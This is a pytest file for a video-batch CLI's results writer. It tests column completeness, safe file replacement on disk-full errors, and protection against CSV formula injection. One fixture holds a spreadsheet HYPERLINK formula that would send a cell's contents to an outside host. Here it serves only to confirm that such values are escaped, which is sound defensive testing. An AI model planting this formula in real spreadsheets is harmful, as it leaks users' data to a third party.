"""What became of the rows, as spreadsheets and programs read it."""

import csv
import json

import pytest
from batch_fakes import Bench
from inline_engine import InlineEngine

from joyflash_cli.batch.results import RESULT_COLUMNS, as_cell, write_results
from joyflash_cli.errors import OutputError


@pytest.fixture
def bench(tmp_path) -> Bench:
    return Bench(tmp_path)


def read_csv(bench: Bench) -> list[dict]:
    with (bench.out / "results.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_formulas_are_quoted_for_spreadsheets_and_verbatim_for_programs(bench):
    formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
    bench.add("-y", formula)
    bench.add("@b", "+1\nsecond line, 👩‍🚀")
    bench.add("c", "plain = text")
    bench.run(InlineEngine(bench.loader()))
    rows = read_csv(bench)
    assert [row["id"] for row in rows] == ["'-y", "'@b", "c"]
    assert [row["prompt"] for row in rows] == [
        f"'{formula}", "'+1\nsecond line, 👩‍🚀", "plain = text"
    ]  # fmt: skip
    assert rows[0]["output"] == "'-y.mp4"
    assert bench.results["-y"]["prompt"] == formula
    assert bench.results["@b"]["prompt"] == "+1\nsecond line, 👩‍🚀"
    assert (bench.out / "-y.mp4").is_file()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_start_of_a_formula(start):
    assert as_cell(f"{start}x") == f"'{start}x"


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (-1.5, -1.5), ("", ""), ("a=b", "a=b")])
def test_other_cells_are_left_alone(value, cell):
    assert as_cell(value) == cell


def test_every_row_has_every_column(bench):
    bench.add("a", seed=7)
    bench.add("b", "refuse")
    bench.run(InlineEngine(bench.loader()))
    lines = (bench.out / "results.jsonl").read_text().splitlines()
    for line in lines:
        assert tuple(json.loads(line)) == RESULT_COLUMNS
    assert tuple(read_csv(bench)[0]) == RESULT_COLUMNS
    good, bad = bench.results["a"], bench.results["b"]
    assert (good["row"], good["state"], good["seed"], good["video_s"]) == (1, "done", 7, 1.0)
    assert (good["error"], good["attempt"], good["bytes"]) == (None, 1, 256)
    assert (bad["state"], bad["error_code"], bad["video_s"]) == ("failed", "E-AUDIO-EMPTY", None)


def test_the_older_files_stay_when_new_ones_cannot_be_written(bench, monkeypatch):
    bench.add("a")
    bench.run(InlineEngine(bench.loader()))
    before = (bench.out / "results.csv").read_bytes()
    plan = bench.plan()

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(OutputError, match="the disk is full"):
        write_results(plan.rows, plan.ledger, bench.out, mark="x")
    assert (bench.out / "results.csv").read_bytes() == before
    assert not [path for path in bench.files() if path.endswith(".part")]
